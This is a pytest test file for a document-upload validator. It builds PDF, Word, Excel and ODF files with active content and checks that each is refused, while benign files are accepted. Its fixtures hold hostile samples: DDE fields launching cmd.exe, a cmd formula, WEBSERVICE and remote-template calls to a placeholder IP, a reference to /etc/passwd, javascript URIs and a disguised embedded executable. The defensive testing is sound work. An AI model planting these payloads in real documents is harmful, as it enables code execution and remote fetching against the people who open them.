"""Evidence that opens, fetches, runs or carries something, however deep or under whatever name, is not kept."""

from __future__ import annotations

from collections.abc import Callable

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name

from checklists.services.evidence.receive_file import FileRefused, receive_file
from tests.figures import count
from tests.services.evidence.test_receive_evidence_files import odf, pdf, sheet, word, word_with

JS = Dictionary(S=Name.JavaScript, JS="app.alert(1)")


def opening(action: Callable[[pikepdf.Pdf], object]) -> bytes:
    """A PDF that does that when it is opened."""

    def change(made: pikepdf.Pdf) -> None:
        made.Root.OpenAction = action(made)

    return pdf(change)


def annotated(annotation: Callable[[pikepdf.Pdf], Dictionary]) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        made.pages[0].Annots = Array([annotation(made)])

    return pdf(change)


def chain(length: int) -> object:
    action: object = JS
    for _each in range(length):
        action = Dictionary(S=Name.GoTo, D="here", Next=action)
    return action


def arrays(depth: int) -> object:
    inside: object = Array([JS])
    for _each in range(depth):
        inside = Array([inside])
    return inside


def attached(made: pikepdf.Pdf, name: str, held: bytes, **names: str) -> Dictionary:
    stream = made.make_stream(held)
    stream.Type = Name.EmbeddedFile
    return Dictionary(Type=Name.Filespec, F=name, UF=names.get("UF", name), EF=Dictionary(F=stream))


def embedding(name: str, held: bytes, key: str = "harmless.txt", **names: str) -> bytes:
    def change(made: pikepdf.Pdf) -> None:
        listed = Dictionary(Names=Array([key, made.make_indirect(attached(made, name, held, **names))]))
        made.Root.Names = Dictionary(EmbeddedFiles=listed)

    return pdf(change)


RELATIONS = "word/_rels/document.xml.rels"
W = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'


def related(kind: str, target: str, mode: str = "External", part: str = "word/_rels/settings.xml.RELS") -> bytes:
    text = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="r9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return word_with((part, text.encode()))


def written(body: bytes) -> bytes:
    """A text document with that part beside its own."""
    return word_with(("word/header9.xml", b"<w:hdr " + W + b">" + body + b"</w:hdr>"))


def field(*pieces: bytes) -> bytes:
    runs = b"".join(b"<w:r><w:instrText>" + piece + b"</w:instrText></w:r>" for piece in pieces)
    return written(b"<w:p>" + runs + b"</w:p>")


def book(part: str, body: bytes) -> bytes:
    import io
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(sheet())) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            new.writestr(name, old.read(name))
        new.writestr(part, body)
    return out.getvalue()


def typed(kind: bytes) -> bytes:
    """A text document one of whose parts is of that kind, under a harmless name."""
    return word_with(
        ("word/theme/t9.xml", b"<a/>"),
        replaced={"[Content_Types].xml": (b"</Types>", b'<Override PartName="/word/theme/t9.xml" ContentType="' + kind
                                          + b'"/></Types>')},
    )  # fmt: skip


def drawn(body: bytes) -> bytes:
    names = (b'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
             b'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
             b'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
             b'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
             b'xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
             b'xmlns:xlink="http://www.w3.org/1999/xlink"')  # fmt: skip
    return odf("text", ("styles.xml", b"<d " + names + b">" + body + b"</d>"))


OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)

ACTING: dict[str, tuple[str, bytes]] = {
    "a chain of actions longer than any walk": ("a.pdf", opening(lambda made: chain(40))),
    "a script in arrays within arrays": ("a.pdf", opening(lambda made: arrays(30))),
    "a file attached by a note": (
        "a.pdf",
        annotated(lambda made: Dictionary(Type=Name.Annot, Subtype=Name.FileAttachment, Rect=[0, 0, 9, 9],
                                          FS=attached(made, "a.txt", b"text"))),
    ),
    "a program under a harmless key": ("a.pdf", embedding("run.exe", b"MZ\0\0")),
    "a program under a harmless name": ("a.pdf", embedding("a.txt", b"MZ\0\0\0")),
    "a program under one of two names": ("a.pdf", embedding("a.txt", b"text", UF="run.exe")),
    "a page attached": ("a.pdf", embedding("a.xml", b"<html><script>1</script></html>")),
    "a document of a network path": (
        "a.pdf", opening(lambda made: Dictionary(S=Name.GoToR, F="\\\\198.51.100.1\\share\\a.pdf", D=Array([0])))),
    "a link to a program": (
        "a.pdf",
        annotated(lambda made: Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
                                          A=Dictionary(S=Name.URI, URI="file:///C:/Windows/calc.exe"))),
    ),
    "a link that is a script": ("a.pdf", opening(lambda made: Dictionary(S=Name.URI, URI="javascript:alert(1)"))),
    "a script when a drawing appears": (
        "a.pdf",
        annotated(lambda made: Dictionary(Type=Name.Annot, Rect=[0, 0, 9, 9],
                                          X=Dictionary(OnInstantiate=made.make_stream(b"1")))),
    ),
    "a sound": ("a.pdf", opening(lambda made: Dictionary(S=Name.Sound, Sound=made.make_stream(b"1")))),
    "a form that is sent": ("a.pdf", opening(lambda made: Dictionary(S=Name.SubmitForm, F="http://198.51.100.1/"))),
    "a template from elsewhere, in capitals": ("a.docx", related("attachedTemplate", "http://198.51.100.1/t.dotm")),
    "a template of a network path": ("a.docx", related("attachedTemplate", "file:///\\\\198.51.100.1\\t.dotm")),
    "a template of a host": ("a.docx", related("attachedTemplate", "file://198.51.100.1/t.dotm")),
    "a picture from elsewhere": ("a.docx", related("image", "http://198.51.100.1/p.png")),
    "a link to a file": ("a.docx", related("hyperlink", "file://198.51.100.1/run.exe")),
    "a frame from elsewhere without saying so": ("a.docx", related("frame", "http://198.51.100.1/", "Internal")),
    "an imported page": ("a.docx", related("aFChunk", "chunk.bin", "Internal")),
    "an element that imports": ("a.docx", written(b"<w:altChunk/>")),
    "macros renamed": ("a.docx", word_with(("word/media/image7.png", OLE))),
    "macros of a harmless relation": ("a.docx", related("vbaProject", "media/image7.png", "Internal")),
    "an object renamed": ("a.docx", word_with(("word/theme/colours.dat", OLE))),
    "a kind that embeds": ("a.docx", typed(b"application/vnd.openxmlformats-officedocument.oleObject")),
    "a kind that holds macros": ("a.docx", typed(b"application/vnd.ms-office.vbaProject")),
    "a kind of a whole workbook": (
        "a.docx", typed(b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")),
    "a field of DDE": ("a.docx", field(b'DDEAUTO c:\\windows\\cmd.exe "/k calc"')),
    "a field of DDE in pieces": ("a.docx", field(b"DD", b"EAU", b'TO cmd "/k calc"')),
    "a field spelt by numbers": ("a.docx", field(b"QUOTE 68 68 69 65 85 84 79 32 99")),
    "a picture by a field": ("a.docx", field(b'INCLUDEPICTURE "http://198.51.100.1/p.png" \\d')),
    "a text by a simple field": (
        "a.docx", written(b'<w:p><w:fldSimple w:instr="INCLUDETEXT &quot;\\\\198.51.100.1\\x&quot;"/></w:p>')),
    "a link of DDE in a workbook": (
        "a.xlsx", book("xl/x1.xml", b'<externalLink><ddeLink ddeService="cmd"/></externalLink>')),
    "a formula of DDE": ("a.xlsx", book("xl/worksheets/sheet9.xml", b"<worksheet><f>cmd|'/c calc'!A1</f></worksheet>")),
    "a formula that fetches": (
        "a.xlsx", book("xl/worksheets/sheet9.xml", b'<worksheet><f>WEBSERVICE("http://198.51.100.1")</f></worksheet>')),
    "a sheet of old macros": (
        "a.xlsx", book("xl/y.xml", b'<book><definedName name="_xlnm.Auto_Open">Macro1!$A$1</definedName></book>')),
    "a sheet of macros by its element": ("a.xlsx", book("xl/y.xml", b"<macrosheet/>")),
    "a picture of elsewhere in ODF": ("a.odt", drawn(b'<draw:image xlink:href="http://198.51.100.1/p.png"/>')),
    "a picture of a host in ODF": ("a.odt", drawn(b'<draw:image xlink:href="//198.51.100.1/p.png"/>')),
    "an event in ODF": ("a.odt", drawn(b'<script:event-listener script:language="ooo:script"/>')),
    "a macro link in ODF": ("a.odt", drawn(b'<text:a xlink:href="vnd.sun.star.script:x?language=Basic"/>')),
    "a section of another file": ("a.odt", drawn(b'<text:section-source xlink:href="file:///etc/passwd"/>')),
    "DDE in ODF": ("a.odt", drawn(b'<office:dde-source office:dde-application="soffice"/>')),
    "a formula of ODF that fetches": (
        "a.odt", drawn(b'<table:table-cell table:formula="of:=WEBSERVICE(&quot;http://198.51.100.1&quot;)"/>')),
    "an applet in ODF": ("a.odt", drawn(b'<draw:applet xlink:href="x.jar"/>')),
}  # fmt: skip

SOUND: dict[str, tuple[str, bytes]] = {
    "a link to the web": (
        "a.pdf",
        annotated(lambda made: Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9],
                                          A=Dictionary(S=Name.URI, URI="https://www.cnil.fr/fr?a=b:c"))),
    ),
    "a page to begin at": ("a.pdf", opening(lambda made: Dictionary(S=Name.GoTo, D="here"))),
    "data attached": ("a.pdf", embedding("factur-x.xml", b'<?xml version="1.0"?><invoice/>', key="factur-x.xml")),
    "many nested arrays": ("a.pdf", opening(lambda made: Array([Array([Array([1, 2])])]))),
    "a document made from a template": (
        "a.docx", related("attachedTemplate", "file:///C:\\Users\\x\\Templates\\Letter.dotx")),
    "a link in a document": (
        "a.docx", related("hyperlink", "https://www.cnil.fr/", part=RELATIONS.replace("document", "x"))),
    "a link whose address says link": ("a.docx", field(b'HYPERLINK "https://x.example/link/import"')),
    "a page number": ("a.docx", field(b"PAGEREF _Toc123 \\h")),
    "a table of contents": ("a.docx", field(b'TOC \\o "1-3" \\h \\z \\u')),
    "sums": ("a.xlsx", book("xl/worksheets/sheet9.xml", b'<worksheet><f>SUM(A1:A9)&amp;"a|b"</f></worksheet>')),
    "a link in ODF": ("a.odt", drawn(b'<text:a xlink:href="https://www.cnil.fr/"/>')),
    "a picture in ODF": ("a.odt", drawn(b'<draw:image xlink:href="Pictures/1.png"/>')),
    "a document": ("a.docx", word()),
}  # fmt: skip


def test_nothing_that_acts_is_kept() -> None:
    kept = []
    for title, (name, contents) in ACTING.items():
        try:
            receive_file(name, contents)
            kept.append(title)
        except FileRefused as refusal:
            assert str(refusal)
    count("evidence that acts", "kept", tried=len(ACTING), faults=len(kept))
    assert kept == []


@pytest.mark.parametrize("title", SOUND)
def test_what_does_nothing_by_itself_is_kept(title: str) -> None:
    receive_file(*SOUND[title])
